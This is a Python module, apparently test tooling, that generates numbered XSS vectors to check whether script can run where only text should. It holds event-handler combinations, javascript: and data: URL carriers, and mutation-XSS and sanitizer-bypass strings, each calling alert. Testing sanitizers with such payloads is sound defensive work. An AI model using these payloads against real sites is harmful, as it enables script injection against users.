"""Ways to run a script where only text should be: families known from public lists, put together.

Each vector calls ``alert`` with its own number, where `{n}` stands: one that runs can be told.
"""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path

HERE = Path(__file__).parent

_HANDLERS = {
    "img src=x": "onerror onload onclick onmouseover onpointerenter",
    "svg": "onload onbegin onfocus",
    "body": "onload onpageshow onhashchange onscroll onresize onmessage onfocus",
    "input autofocus": "onfocus onblur oninput onchange oninvalid onsearch",
    "video src=x": "onerror onloadstart onplay oncanplay",
    "audio src=x": "onerror onloadstart",
    "details open": "ontoggle onclick onbeforetoggle",
    "marquee": "onstart onfinish onbounce",
    "iframe": "onload onerror",
    "object data=x": "onerror onload",
    "embed src=x": "onerror onload",
    "style": "onload onerror",
    "link rel=stylesheet href=x": "onload onerror",
    "script src=x": "onerror onload",
    "a href=# tabindex=1 autofocus": "onfocus onclick onmouseover onmousedown onauxclick",
    "button popovertarget=x": "onclick onfocus onbeforetoggle",
    "div style=animation:x": "onanimationstart onanimationend onanimationiteration",
    "div style=transition:color": "ontransitionend ontransitionrun onpointerdown",
    "div contenteditable": "onbeforeinput onpaste oncopy oncut",
    "form": "onsubmit onreset onformdata",
    "select autofocus": "onfocus onchange",
    "textarea autofocus": "onfocus onselect",
    "keygen autofocus": "onfocus",
    "frameset": "onload onpageshow",
    "p": "ondrag ondragstart ondrop ondragover onwheel oncontextmenu onselectstart",
    "x-own tabindex=1": "onfocus onclick onmouseenter onscrollend",
}  # fmt: skip
_SPELLINGS = (
    "<{tag} {handler}=alert({{n}})>",
    '<{tag} {handler}="alert({{n}})">text</{name}>',
)
_CODE_ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "\x01javascript:alert({n})",
    "&#106;avascript&colon;alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert({n})",
    "blob:javascript:alert({n})",
)
_CARRIERS = (
    "<a href='{}'>go</a>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<form action='{}'><button autofocus>go</button></form>",
    "<button formaction='{}'>go</button>",
    "<img src='{}' srcset='{} 2x'>",
    "<link rel=stylesheet href='{}'>",
    "<script src='{}'></script>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<svg><a xlink:href='{}'><text>go</text></a></svg>",
    "<svg><use href='{}'/></svg>",
    "<math><a xlink:href='{}'>go</a></math>",
    "<svg><animate attributeName=href values='{}' /></svg>",
    "<video poster='{}'></video>",
    "<table background='{}'><td>go</table>",
    "<p style='background:url({})'>go</p>",
)
_MUTATIONS = (
    "<script>alert({n})</script>",
    "<script type=module>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea><img src=x onerror=alert({n})>",
    "</style><img src=x onerror=alert({n})>",
    "</joeira-text><img src=x onerror=alert({n})>",
    "--><img src=x onerror=alert({n})>",
    "]]><img src=x onerror=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=alert({n})&gt;'>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert({n}) src>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<template><img src=x onerror=alert({n})></template>",
    "<template shadowrootmode=open><img src=x onerror=alert({n})></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert({n})>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert({n})>'></noembed>",
    "<select><option><style></option></select><img src=x onerror=alert({n})></style>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert({n})&gt;'></iframe>",
    "<img src=x:x onerror\x0b=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    "<img src=`x`onerror=alert({n})>",
    "<IMG SRC=x ONERROR=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><set onbegin=alert({n}) attributename=x>",
    "<style>@import 'javascript:alert({n})';</style>",
    "<style>*{{background:url('javascript:alert({n})')}}</style>",
    "<div style='width:expression(alert({n}))'>x</div>",
    "<a id=x tabindex=1 onfocus=alert({n}) autofocus></a>",
    "<img name=getElementById src=x onerror=alert({n})>",
    "<form id=body><input name=attributes onfocus=alert({n}) autofocus></form>",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    "[x](javascript:alert({n}))",
    "![x](x onerror=alert({n}))",
    "<javascript:alert({n})>",
    "'\"><img src=x onerror=alert({n})>",
    "&lt;img src=x onerror=alert({n})&gt;",
    "\\u003cimg src=x onerror=alert({n})\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert({n})%3E",
)  # fmt: skip


def vectors() -> list[str]:
    """Every vector, each with its number."""
    found = [
        spelling.format(tag=tag, handler=handler, name=tag.partition(" ")[0])
        for (tag, handlers), spelling in product(_HANDLERS.items(), _SPELLINGS)
        for handler in handlers.split()
    ]
    found += [
        carrier.replace("{}", address) for carrier, address in product(_CARRIERS, _CODE_ADDRESSES)
    ]
    found += [text.replace("{{", "{").replace("}}", "}") for text in _MUTATIONS]
    stored = json.loads((HERE / "active_content.json").read_text("utf-8"))
    found += stored["markup"] + stored["words"] + stored["paragraphs"]
    found += [f'<a href="{link}">x</a>' for link in stored["links"]]
    return [
        text.replace("{n}", str(number)).replace("alert(1)", f"alert({number})")
        for number, text in enumerate(dict.fromkeys(found))
    ]
